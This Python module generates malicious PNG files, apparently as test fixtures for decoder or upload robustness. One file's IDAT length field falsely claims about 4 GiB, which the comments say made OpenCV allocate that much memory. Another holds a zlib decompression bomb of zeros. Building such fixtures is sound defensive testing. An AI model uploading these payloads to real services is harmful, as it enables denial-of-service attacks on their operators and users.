"""PNG files that lie about their size: what an attacker uploads to exhaust memory."""
from __future__ import annotations

import struct
import zlib

SIGNATURE = b"\x89PNG\r\n\x1a\n"


def chunk(kind: bytes, body: bytes, *, length: int | None = None) -> bytes:
    """A chunk with a correct CRC; ``length`` overrides the length field (a lie)."""
    size = len(body) if length is None else length
    return struct.pack(">I", size) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def gray16(width: int, height: int, body: bytes) -> bytes:
    """Signature, the IHDR of a 16-bit gray image, ``body`` (chunks), IEND."""
    ihdr = struct.pack(">IIBBBBB", width, height, 16, 0, 0, 0, 0)
    return SIGNATURE + chunk(b"IHDR", ihdr) + body + chunk(b"IEND", b"")


def claimed_length(claim: int = 0xFFFFFFF0) -> bytes:
    """~140 bytes: a valid 64x64 image whose IDAT length field claims ``claim`` bytes.
    OpenCV's decoder allocated the claim (4 GiB) before finding the file short."""
    rows = zlib.compress(b"\0" * (64 * 129))
    return gray16(64, 64, chunk(b"tEXt", b"Software\0bomb") + chunk(b"IDAT", rows, length=claim))


def zeros_stream(mib: int) -> bytes:
    """A zlib stream of ``mib`` MiB of zeros in ~1 KiB per MiB (full flushes
    reset the compressor, so one MiB's output repeats; the final checksum is off)."""
    packer = zlib.compressobj(1)
    first = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    return first + again * (mib - 1) + packer.flush()


def inflating(width: int, height: int, mib: int) -> bytes:
    """A header of ``width`` x ``height`` over ``mib`` MiB of zeros in 64 KiB IDAT chunks."""
    stream = zeros_stream(mib)
    return gray16(width, height, b"".join(chunk(b"IDAT", stream[i:i + (1 << 16)])
                                          for i in range(0, len(stream), 1 << 16)))
